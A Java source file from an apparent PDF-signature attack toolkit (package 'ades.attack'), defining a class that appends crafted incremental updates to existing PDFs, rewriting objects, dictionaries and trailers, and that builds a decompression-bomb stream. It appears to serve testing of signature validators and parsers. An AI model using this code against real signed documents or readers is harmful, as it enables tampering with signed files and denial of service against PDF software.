package vn.kyluu.ades.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;

/** One incremental update in the making (ISO 32000-1, 7.5.6), appended to a file as it is. For one use. */
final class PdfRevision implements AutoCloseable {
    private static final Pattern LINK = Pattern.compile("\\$\\{([^}]+)}");
    private static final Pattern START = Pattern.compile("startxref\\s+(\\d+)");

    private final byte[] before;
    private final PDDocument document;
    private final PdfPlaces places;
    private final long firstNew;
    private final Map<COSObject, Set<String>> removed = new HashMap<>();
    private final Map<COSObject, List<String>> added = new HashMap<>();
    private final TreeMap<Long, byte[]> objects = new TreeMap<>();
    private final List<String> trailer = new ArrayList<>();

    PdfRevision(byte[] before) throws IOException {
        this.before = before;
        this.document = Loader.loadPDF(before);
        this.places = new PdfPlaces(document);
        this.firstNew = document.getDocument().getHighestXRefObjectNumber() + 1;
    }

    void put(String place, String key, String value) throws IOException {
        remove(place, key);
        added.get(places.find(place)).add("/" + key + " " + resolved(value));
    }

    void add(String place, String key, String value) throws IOException {
        COSArray array = ((COSDictionary) places.find(place).getObject()).getCOSArray(COSName.getPDFName(key));
        String known =
                array == null ? "" : String.join(" ", CosText.items(array).toList());
        put(place, key, "[" + known + " " + value + "]");
    }

    void remove(String place, String key) throws IOException {
        COSObject object = places.find(place);
        removed.computeIfAbsent(object, any -> new HashSet<>()).add(key);
        added.computeIfAbsent(object, any -> new ArrayList<>());
    }

    void replace(String place, String body) throws IOException {
        objects.put(places.find(place).getKey().getNumber(), latin(resolved(body)));
    }

    void create(int number, String body) throws IOException {
        objects.put(firstNew + number - 1, latin(resolved(body)));
    }

    void createStream(String place, String content) throws IOException {
        objects.put(number(place), stream("", latin(content)));
    }

    /** A small stream that grows to so many bytes when it is inflated as often as there are filters. */
    void createBomb(String place, String entries, long size) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(out, new Deflater(9))) {
            byte[] blanks = " ".repeat(1 << 16).getBytes(StandardCharsets.US_ASCII);
            for (long done = 0; done < size; done += blanks.length) {
                deflater.write(blanks);
            }
        }
        objects.put(number(place), stream("/Filter /FlateDecode " + resolved(entries), out.toByteArray()));
    }

    void trailer(String key, String value) throws IOException {
        trailer.add("/" + key + " " + resolved(value));
    }

    byte[] saved() throws IOException {
        for (Map.Entry<COSObject, List<String>> each : added.entrySet()) {
            COSDictionary dictionary = (COSDictionary) each.getKey().getObject();
            String entries =
                    CosText.entries(dictionary, removed.get(each.getKey())) + "\n" + String.join("\n", each.getValue());
            objects.put(each.getKey().getKey().getNumber(), body(dictionary, entries));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(before);
        out.write('\n');
        StringBuilder table = new StringBuilder("xref\n");
        for (Map.Entry<Long, byte[]> each : objects.entrySet()) {
            table.append(each.getKey()).append(" 1\n").append(String.format("%010d 00000 n \n", out.size()));
            out.writeBytes(latin(each.getKey() + " 0 obj\n"));
            out.writeBytes(each.getValue());
            out.writeBytes(latin("\nendobj\n"));
        }
        long size = Math.max(firstNew, objects.isEmpty() ? 0 : objects.lastKey() + 1);
        int here = out.size();
        out.writeBytes(latin(
                table + "trailer\n<< /Size " + size + "\n" + rest(here) + " >>\nstartxref\n" + here + "\n%%EOF\n"));
        return out.toByteArray();
    }

    private String rest(int here) {
        String own = String.join("\n", trailer).replace("${here}", Integer.toString(here));
        Set<String> leftOut = new HashSet<>(
                Set.of("Size", "Prev", "XRefStm", "Type", "W", "Index", "Filter", "Length", "DecodeParms"));
        for (String entry : trailer) {
            leftOut.add(entry.substring(1, entry.indexOf(' ')));
        }
        String known = CosText.entries(document.getDocument().getTrailer(), leftOut);
        return (own.contains("/Prev ") ? "" : "/Prev " + lastStart() + "\n") + known + "\n" + own;
    }

    private byte[] body(COSDictionary dictionary, String entries) throws IOException {
        if (dictionary instanceof COSStream stream) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes(latin("<< " + entries + " >>\nstream\n"));
            try (var raw = stream.createRawInputStream()) {
                raw.transferTo(out);
            }
            out.writeBytes(latin("\nendstream"));
            return out.toByteArray();
        }
        return latin("<< " + entries + " >>");
    }

    private static byte[] stream(String entries, byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(latin("<< " + entries + " /Length " + content.length + " >>\nstream\n"));
        out.writeBytes(content);
        out.writeBytes(latin("\nendstream"));
        return out.toByteArray();
    }

    private long number(String place) throws IOException {
        return place.startsWith("new ")
                ? firstNew + Integer.parseInt(place.substring(4)) - 1
                : places.find(place).getKey().getNumber();
    }

    private String resolved(String text) throws IOException {
        Matcher link = LINK.matcher(text);
        StringBuilder out = new StringBuilder();
        while (link.find()) {
            String place = link.group(1);
            String value = switch (place) {
                case "here" -> "${here}";
                case "last" -> Long.toString(lastStart());
                default -> number(place) + " 0 R";
            };
            link.appendReplacement(out, Matcher.quoteReplacement(value));
        }
        return link.appendTail(out).toString();
    }

    private long lastStart() {
        Matcher start = START.matcher(new String(before, StandardCharsets.ISO_8859_1));
        long last = 0;
        while (start.find()) {
            last = Long.parseLong(start.group(1));
        }
        return last;
    }

    static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    @Override
    public void close() throws IOException {
        document.close();
    }
}
